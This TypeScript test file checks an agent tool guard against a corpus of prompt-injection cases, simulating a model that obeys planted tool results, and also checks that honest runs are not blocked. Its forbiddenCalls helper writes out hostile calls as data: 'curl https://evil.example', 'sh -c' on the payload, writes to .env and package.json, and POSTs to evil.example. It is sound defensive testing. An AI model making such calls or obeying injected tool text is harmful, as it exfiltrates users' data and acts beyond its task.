import { afterAll, describe, expect, it } from 'vitest';
import type { GuardRules } from '../../src/guard/decide.js';
import type { Case } from './support/corpus.js';
import { casesOf, hasCorpus, onlyReads } from './support/corpus.js';
import { calls, guardedRun, recorder } from './support/guarded-run.js';

const FORBIDDING = casesOf('injection-cases').filter(({ forbidden_tools: tools = [] }) => tools.length > 0);
const BENIGN = casesOf('benign-cases');

/** What came out, for the table at the end. */
const figures: { readonly what: string; readonly n: number; readonly count: number }[] = [];
const tell = (what: string, n: number, count: number): void => void figures.push({ what, n, count });

afterAll(() => {
  if (figures.length === 0) return;
  console.log(
    figures.map(({ what, n, count }) => `${String(count).padStart(5)} of ${String(n).padStart(4)}  ${what}`).join('\n'),
  );
});

/** What a model tries that obeys a planted text: the tools that the case forbids, and whatever else it was granted. */
function forbiddenCalls({
  forbidden_tools: tools = [],
  payload,
  tool_result: text,
}: Case): (readonly [string, object])[] {
  const said = payload ?? text;
  return [
    ...tools.map((tool) => [`mcp_kit_${tool}`, { text: said }] as const),
    ...tools.map((tool) => [`mcp_kit_${tool}`, {}] as const),
    ['shell', { argv: ['sh', '-c', said] }],
    ['shell', { command: 'curl https://evil.example' }],
    ['write_file', { path: 'package.json', content: said }],
    ['write_file', { path: '.env', content: said }],
    ['fetch', { url: 'https://evil.example', method: 'POST', body: said }],
    ['fetch', { url: `https://evil.example/?q=${encodeURIComponent(said.slice(0, 100))}` }],
  ];
}

/** Runs a case in which the first tool of the honest task gives the planted text. */
async function attacked(
  one: Case,
  how: { readonly lies: boolean; readonly person: boolean },
): Promise<readonly string[]> {
  const [first = 'read_inbox', ...others] = one.user_task_tools ?? [];
  const task = [first, ...others];
  const all = new Set([...task, ...(one.forbidden_tools ?? [])]);
  const { made, server, builtIn } = recorder();
  const tools = [
    ...[...all].map((tool) => {
      const gives = tool === first ? { gives: one.tool_result } : {};
      return server(tool, { readOnly: how.lies || onlyReads(tool), ...gives });
    }),
    ...(['shell', 'write_file', 'fetch'] as const).map((tool) => builtIn(tool)),
  ];
  const wanted = forbiddenCalls(one);
  const turns = how.person ? wanted.map((call) => calls(call)) : [calls(...wanted)];
  const { run } = await guardedRun({
    said: [calls([`mcp_kit_${first}`, { q: 'x' }]), ...turns],
    tools,
    named: task.map((tool) => `kit/${tool}`),
    // A person lets the task's own tools happen, and nothing else.
    person: (asked) => {
      const isHonest = asked.every((tool) => task.some((name) => tool === `mcp_kit_${name}`));
      return isHonest ? 'allow' : how.person ? 'deny' : undefined;
    },
  });
  expect(run.result.type, one.id).toBe(how.person ? 'done' : 'paused');
  expect(made[0]?.name, one.id).toBe(`kit/${first}`);
  return made.slice(1).map(({ name }) => name);
}

describe.runIf(hasCorpus)('a model that obeys every planted text', () => {
  it.each([
    ['--yes and no terminal', { lies: false, person: false }],
    ['--yes and no terminal, a server that calls all of its tools read-only', { lies: true, person: false }],
    ['a person who allows the task alone, each call tried by itself', { lies: false, person: true }],
    ['the same with the server that lies', { lies: true, person: true }],
  ])('[T1] makes no forbidden call, all tools granted: %s', async (what, how) => {
    const broken: string[] = [];
    for (const one of FORBIDDING) {
      const made = await attacked(one, how);
      if (made.length > 0) broken.push(`${one.id}: ${made.join(', ')}`);
    }
    tell(`injected cases with a forbidden call: ${what}`, FORBIDDING.length, broken.length);
    expect(FORBIDDING.length).toBeGreaterThan(60);
    expect(broken).toEqual([]);
  });
});

/** An honest run: what is read one after the other, then what is sent together. */
async function honest({ user_task_tools: tools = ['read_inbox'], tool_result: text }: Case, rules: GuardRules) {
  const { made, server, builtIn } = recorder();
  const reads = tools.filter(onlyReads);
  const sends = tools.filter((tool) => !onlyReads(tool));
  const look = () => Promise.resolve({ path: 'summary.md', isNew: true });
  const note = builtIn('write_file', 'created summary.md', { look });
  const address = { url: 'https://bank.example/statement' };
  const { run, questions } = await guardedRun({
    said: [
      ...(reads.length === 0 ? [] : reads).map((tool) =>
        calls([`mcp_kit_${tool}`, tool === 'get_webpage' ? address : { q: 'x' }]),
      ),
      ...(sends.length === 0 ? [] : [calls(...sends.map((tool) => [`mcp_kit_${tool}`, { to: 'me' }] as const))]),
      calls(['write_file', { path: 'summary.md', content: text }]),
    ],
    tools: [...tools.map((tool) => server(tool, { readOnly: onlyReads(tool), gives: text })), note],
    named: tools.map((tool) => `kit/${tool}`),
    rules,
    person: () => 'allow',
  });
  return { isDone: run.result.type === 'done' && made.length === tools.length + 1, questions: questions.length };
}

/** Getting a page is one, and sending, whatever is sent together, is another. */
function waysOut({ user_task_tools: tools = [] }: Case): number {
  return Number(tools.includes('get_webpage')) + Number(tools.some((tool) => !onlyReads(tool)));
}

/** What goes outside: what is not a read, and a read that asks an address for something. */
function goesOut({ user_task_tools: tools = [] }: Case): boolean {
  return tools.some((tool) => !onlyReads(tool) || tool === 'get_webpage');
}

describe.runIf(hasCorpus)('an honest model', () => {
  it('[T3] is not blocked; it is asked about what it sends, once, and not about what is declared', async () => {
    const declared: GuardRules = {
      hosts: ['bank.example'],
      sends: BENIGN.flatMap(({ user_task_tools: tools = [] }) => tools).map((tool) => ({
        tool: `kit/${tool}`,
        free: ['to'],
      })),
    };
    const out = BENIGN.filter(goesOut);
    const inside = BENIGN.filter((one) => !goesOut(one));
    const asked = { inside: 0, out: 0, twice: 0, often: 0, declared: 0, blocked: 0 };
    for (const one of BENIGN) {
      const plain = await honest(one, {});
      const known = await honest(one, declared);
      if (!plain.isDone || !known.isDone) asked.blocked += 1;
      if (plain.questions > 1) asked.twice += 1;
      if (plain.questions > waysOut(one)) asked.often += 1;
      if (known.questions > 0) asked.declared += 1;
      if (plain.questions > 0) asked[goesOut(one) ? 'out' : 'inside'] += 1;
    }
    tell('honest cases that are blocked', BENIGN.length, asked.blocked);
    tell('honest cases without an outward effect that ask', inside.length, asked.inside);
    tell('honest cases with one that ask', out.length, asked.out);
    tell('honest cases that ask twice: for a page, then for what they send', out.length, asked.twice);
    tell('honest cases that ask once the destination is declared', out.length, asked.declared);
    expect(asked).toMatchObject({ blocked: 0, inside: 0, declared: 0, often: 0 });
  });
});
